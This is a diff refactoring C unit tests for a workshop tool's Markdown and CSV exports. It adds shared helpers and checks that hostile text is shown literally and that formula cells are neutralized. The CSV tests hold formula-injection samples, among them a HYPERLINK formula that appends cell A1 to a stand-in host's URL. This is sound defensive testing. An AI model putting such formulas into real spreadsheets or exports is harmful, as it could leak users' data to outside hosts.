@@ -253,6 +253,15 @@ static char *export_with(void (*write)(const struct export_context *, struct sbu
 	return sbuf_take(&out);
 }
 
+/* The Markdown export of full_session(); the caller frees it. */
+static char *full_session_md(void)
+{
+	struct session *s = full_session();
+	char *md = export_with(export_md, s);
+	session_free(s);
+	return md;
+}
+
 /* Replaces a text the way a hostile or damaged database could hold it:
  * with bytes session_text would refuse. */
 static void replace(char **field, const char *raw)
@@ -290,6 +299,13 @@ static void assert_contains(const char *text, const char *part)
 {
 	if (strstr(text, part) == NULL)
 		fail_msg("no \"%s\" in:\n%s", part, text);
+}
+
+/* Every one of the parts, which end with NULL, is in the text. */
+static void assert_contains_each(const char *text, const char *const *parts)
+{
+	for (size_t i = 0; parts[i] != NULL; i++)
+		assert_contains(text, parts[i]);
 }
 
 static void assert_lacks(const char *text, const char *part)
@@ -623,15 +639,16 @@ static void export_md__shows_hostile_titles_literally_with_no_raw_control_charac
 		replace(&s->values[0].text, t);
 		replace(&s->dims[0].notes[0].text, t);
 		char *md = export_with(export_md, s);
+		/* As the title, in the steps' table and in a list. */
+		static const char *const around[][2] = {
+			{"# ", "\n"}, {"| ", " | 3 |"}, {"- ", "\n"},
+		};
 		struct sbuf want = SBUF_INIT;
-		sbuf_addf(&want, "# %s\n", shown_as[i]);
-		assert_contains(md, sbuf_str(&want));
-		sbuf_reset(&want);
-		sbuf_addf(&want, "| %s | 3 |", shown_as[i]);
-		assert_contains(md, sbuf_str(&want));
-		sbuf_reset(&want);
-		sbuf_addf(&want, "- %s\n", shown_as[i]);
-		assert_contains(md, sbuf_str(&want));
+		for (size_t k = 0; k < NELEMS(around); k++) {
+			sbuf_reset(&want);
+			sbuf_addf(&want, "%s%s%s", around[k][0], shown_as[i], around[k][1]);
+			assert_contains(md, sbuf_str(&want));
+		}
 		assert_no_html_outside_code(md);
 		assert_tables_keep_their_columns(md);
 		assert_no_raw_controls(md, false);
@@ -644,55 +661,57 @@ static void export_md__shows_hostile_titles_literally_with_no_raw_control_charac
 static void export_md__states_the_facts_scores_and_progress_bars_of_the_workshop(void **state)
 {
 	(void)state;
-	struct session *s = full_session();
-	char *md = export_with(export_md, s);
-	assert_contains(md, "# Q1: how Sales learns\n\n**Organization / unit:** Acme / Sales · "
-			    "**Level:** Unit · **Facilitator:** Dee · **Date:** 2026-01-01 · "
-			    "**Iteration:** 1 · **Participants:** Ana, Zoë Ng, 日本語, Bo\n");
-	assert_contains(md, "| Dimension | Ana | Zoë Ng | 日本語 | Bo | Group | Mean | Spread |");
-	assert_contains(md, "| Culture: sharing, trust | 3 | 4 | 1 | – | – | 2.7 | 1-4 |");
-	assert_contains(md, "| Policies | – | – | – | – | 2 | 2.0 | 2-2 |");
-	assert_contains(md, "- Strength: people ask in the open channel\n");
-	assert_contains(md, "| Questions answered within a day | % | Higher is better | 40 | "
-			    "55 | 70 | 2026-12-31 | █████·····  50% | On track |");
-	assert_contains(md, "██████████ 106% | Target met |");
-	assert_contains(md, "··········   0% | At risk |");
-	assert_contains(md, "··········" " -33% | Off track |");
-	assert_contains(md, "| Days to a first answer | % | Lower is better | – | – | – | "
-			    "2026-12-31 | – | No data |");
-	assert_contains(md, "| Show-and-tell every month | Culture: sharing, trust | Retired |");
-	assert_contains(md, "| 3 | Tie recognition to sharing | Long | Done | Zoë Ng | – / – | 7 |");
-	assert_contains(md, "| 2 | Build a searchable answers wiki | Medium | Doing | – | 5 / 4 | 12 |");
+	char *md = full_session_md();
+	assert_contains_each(md, (const char *const[]){
+		"# Q1: how Sales learns\n\n**Organization / unit:** Acme / Sales · "
+			"**Level:** Unit · **Facilitator:** Dee · **Date:** 2026-01-01 · "
+			"**Iteration:** 1 · **Participants:** Ana, Zoë Ng, 日本語, Bo\n",
+		"| Dimension | Ana | Zoë Ng | 日本語 | Bo | Group | Mean | Spread |",
+		"| Culture: sharing, trust | 3 | 4 | 1 | – | – | 2.7 | 1-4 |",
+		"| Policies | – | – | – | – | 2 | 2.0 | 2-2 |",
+		"- Strength: people ask in the open channel\n",
+		"| Questions answered within a day | % | Higher is better | 40 | "
+			"55 | 70 | 2026-12-31 | █████·····  50% | On track |",
+		"██████████ 106% | Target met |",
+		"··········   0% | At risk |",
+		"··········" " -33% | Off track |",
+		"| Days to a first answer | % | Lower is better | – | – | – | "
+			"2026-12-31 | – | No data |",
+		"| Show-and-tell every month | Culture: sharing, trust | Retired |",
+		"| 3 | Tie recognition to sharing | Long | Done | Zoë Ng | – / – | 7 |",
+		"| 2 | Build a searchable answers wiki | Medium | Doing | – | 5 / 4 | 12 |",
+		NULL,
+	});
 	assert_lacks(md, "Last time");
 	assert_lacks(md, "Since last time");
 	assert_tables_keep_their_columns(md);
 	free(md);
-	session_free(s);
 }
 
 static void export_md__charts_revealed_ballots_with_ties_and_the_condorcet_winner(void **state)
 {
 	(void)state;
-	struct session *s = full_session();
-	char *md = export_with(export_md, s);
-	assert_contains(md, "### Ballot 1: Dots\n\nDots, 3 each, at most 3 on one step · Secret "
-			    "ballots · anonymous · 4 voted · Revealed\n\n```text\n");
-	assert_contains(md, "1   Pilot show-and-tell in Sales     ████████████████████    4\n");
-	assert_contains(md, "2=  Build a searchable answers wiki  ███████████████         3\n");
-	assert_contains(md, "6   Coaching circles                                         0\n```\n");
-	assert_contains(md, "\nTied steps share a rank, marked = (tie kept: equal points; "
-			    "listed in the order they were added).\n");
-	assert_contains(md, "Condorcet winner: Pilot show-and-tell in Sales\n");
-	assert_contains(md, "### Ballot 3: Approval\n\nApproval · Secret ballots · anonymous · "
-			    "1 voted · Closed\n\n_Not revealed");
-	assert_contains(md, "### Ballot 4: Impact / effort\n");
+	char *md = full_session_md();
+	assert_contains_each(md, (const char *const[]){
+		"### Ballot 1: Dots\n\nDots, 3 each, at most 3 on one step · Secret "
+			"ballots · anonymous · 4 voted · Revealed\n\n```text\n",
+		"1   Pilot show-and-tell in Sales     ████████████████████    4\n",
+		"2=  Build a searchable answers wiki  ███████████████         3\n",
+		"6   Coaching circles                                         0\n```\n",
+		"\nTied steps share a rank, marked = (tie kept: equal points; "
+			"listed in the order they were added).\n",
+		"Condorcet winner: Pilot show-and-tell in Sales\n",
+		"### Ballot 3: Approval\n\nApproval · Secret ballots · anonymous · "
+			"1 voted · Closed\n\n_Not revealed",
+		"### Ballot 4: Impact / effort\n",
+		NULL,
+	});
 	/* Nothing of the closed ballot's one vote shows: no chart between its
 	 * heading and the next. */
 	const char *closed = strstr(md, "### Ballot 3");
 	const char *chart = strstr(closed, "```");
 	assert_true(chart == NULL || chart > strstr(closed, "### Ballot 4"));
 	free(md);
-	session_free(s);
 }
 
 static void export_md__says_when_a_ranked_ballot_has_no_condorcet_winner(void **state)
@@ -717,8 +736,7 @@ static void export_md__lists_the_roadmap_by_horizon_and_rank_without_done_or_dro
 	void **state)
 {
 	(void)state;
-	struct session *s = full_session();
-	char *md = export_with(export_md, s);
+	char *md = full_session_md();
 	const char *roadmap = strstr(md, "## Roadmap");
 	assert_non_null(roadmap);
 	assert_contains(roadmap, "### Now (short term)\n\n1. Pilot show-and-tell in Sales "
@@ -729,7 +747,6 @@ static void export_md__lists_the_roadmap_by_horizon_and_rank_without_done_or_dro
 	assert_lacks(roadmap, "Coaching circles");
 	assert_lacks(roadmap, "Tie recognition");
 	free(md);
-	session_free(s);
 }
 
 /* The next quarter: ratings went up, one carried step is done, another
@@ -771,21 +788,24 @@ static void export_md__of_a_check_in_says_what_changed_since_last_time(void **st
 	const struct export_context ctx = {next, first, &cmp, TODAY};
 	export_md(&ctx, &out);
 	const char *md = sbuf_str(&out);
-	assert_contains(md, "| Mean | Spread | Last time | Change |");
-	assert_contains(md, "| Culture: sharing, trust | 4 | 4 | 4 | – | 4.0 | 4-4 | 2.7 | +1.3 ↑ |");
-	assert_contains(md, "## Since last time\n\nCompared with iteration 1, Q1: how Sales "
-			    "learns.\n\n### Dimensions\n");
-	assert_contains(md, "| Culture: sharing, trust | 2.7 | 4.0 | +1.3 ↑ |");
-	assert_contains(md, "| Tools that find answers | – | – | – |");
-	assert_contains(md, "**Done** (2)\n\n- Pilot show-and-tell in Sales\n"
-			    "- Tie recognition to sharing\n");
-	assert_contains(md, "**Dropped** (2)\n\n- Build a searchable answers wiki\n");
-	assert_contains(md, "**New** (1)\n\n- Lunch and learn\n");
-	assert_contains(md, "**Achieved** (2)\n\n- Anyone finds an answer within a day\n"
-			    "- A budget for learning\n");
-	assert_contains(md, "**Retired** (1)\n\n- Show-and-tell every month\n");
-	assert_contains(md, "| Questions answered within a day | 55 | 62 | 70 | "
-			    "███████···  73% | On track |");
+	assert_contains_each(md, (const char *const[]){
+		"| Mean | Spread | Last time | Change |",
+		"| Culture: sharing, trust | 4 | 4 | 4 | – | 4.0 | 4-4 | 2.7 | +1.3 ↑ |",
+		"## Since last time\n\nCompared with iteration 1, Q1: how Sales "
+			"learns.\n\n### Dimensions\n",
+		"| Culture: sharing, trust | 2.7 | 4.0 | +1.3 ↑ |",
+		"| Tools that find answers | – | – | – |",
+		"**Done** (2)\n\n- Pilot show-and-tell in Sales\n"
+			"- Tie recognition to sharing\n",
+		"**Dropped** (2)\n\n- Build a searchable answers wiki\n",
+		"**New** (1)\n\n- Lunch and learn\n",
+		"**Achieved** (2)\n\n- Anyone finds an answer within a day\n"
+			"- A budget for learning\n",
+		"**Retired** (1)\n\n- Show-and-tell every month\n",
+		"| Questions answered within a day | 55 | 62 | 70 | "
+			"███████···  73% | On track |",
+		NULL,
+	});
 	assert_true(strstr(md, "## Since last time") < strstr(md, "## Parking lot"));
 	assert_tables_keep_their_columns(md);
 	assert_no_raw_controls(md, false);
@@ -809,6 +829,23 @@ static char *csv_section(const char *csv, const char *name)
 	const char *end = strstr(start, "\r\n\r\n");
 	sbuf_free(&title);
 	return xstrndup(start, end ? (size_t)(end - start + 2) : strlen(start));
+}
+
+/* The values section of the CSV export of a session whose values are
+ * these texts, held as a damaged database could; the caller frees it. */
+static char *csv_values_of(const char *const *texts, size_t n)
+{
+	struct session *s = blank_session("placeholder", NULL, 0);
+	struct error err = {0};
+	for (size_t i = 0; i < n; i++) {
+		ok(session_add_value(s, "x", &err), &err);
+		replace(&s->values[i].text, texts[i]);
+	}
+	char *csv = export_with(export_csv, s);
+	char *values = csv_section(csv, "values");
+	free(csv);
+	session_free(s);
+	return values;
 }
 
 static void export_csv__names_each_section_and_separates_them_with_an_empty_line(void **state)
@@ -885,14 +922,7 @@ static void export_csv__neutralizes_cells_a_spreadsheet_would_run_as_formulas(vo
 		"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"", "'+1", "'-1+2",
 		"'@SUM(A1:A9)", "' =1+1", "'\\x0d=1+1", "' =1+1", "fine = 1+1", "a-b",
 	};
-	struct session *s = blank_session("placeholder", NULL, 0);
-	struct error err = {0};
-	for (size_t i = 0; i < NELEMS(texts); i++) {
-		ok(session_add_value(s, "x", &err), &err);
-		replace(&s->values[i].text, texts[i]);
-	}
-	char *csv = export_with(export_csv, s);
-	char *values = csv_section(csv, "values");
+	char *values = csv_values_of(texts, NELEMS(texts));
 	struct sbuf want = SBUF_INIT;
 	sbuf_adds(&want, "id,text\r\n");
 	for (size_t i = 0; i < NELEMS(cells); i++)
@@ -900,8 +930,6 @@ static void export_csv__neutralizes_cells_a_spreadsheet_would_run_as_formulas(vo
 	assert_string_equal(values, sbuf_str(&want));
 	sbuf_free(&want);
 	free(values);
-	free(csv);
-	session_free(s);
 }
 
 /* Text that shows nothing, or only blank, before an = + - @ still starts
@@ -925,14 +953,7 @@ static void export_csv__neutralizes_formulas_behind_invisible_or_blank_character
 		"\u00e9=1",               /* a letter first: left alone */
 		"\u2212" "1",             /* MINUS SIGN is not a formula's start */
 	};
-	struct session *s = blank_session("placeholder", NULL, 0);
-	struct error err = {0};
-	for (size_t i = 0; i < NELEMS(texts); i++) {
-		ok(session_add_value(s, "x", &err), &err);
-		replace(&s->values[i].text, texts[i]);
-	}
-	char *csv = export_with(export_csv, s);
-	char *values = csv_section(csv, "values");
+	char *values = csv_values_of(texts, NELEMS(texts));
 	struct sbuf want = SBUF_INIT;
 	sbuf_adds(&want, "id,text\r\n");
 	for (size_t i = 0; i < NELEMS(texts); i++) {
@@ -942,8 +963,6 @@ static void export_csv__neutralizes_formulas_behind_invisible_or_blank_character
 	assert_string_equal(values, sbuf_str(&want));
 	sbuf_free(&want);
 	free(values);
-	free(csv);
-	session_free(s);
 }
 
 static void export_csv__keeps_the_programs_own_negative_points_as_numbers(void **state)
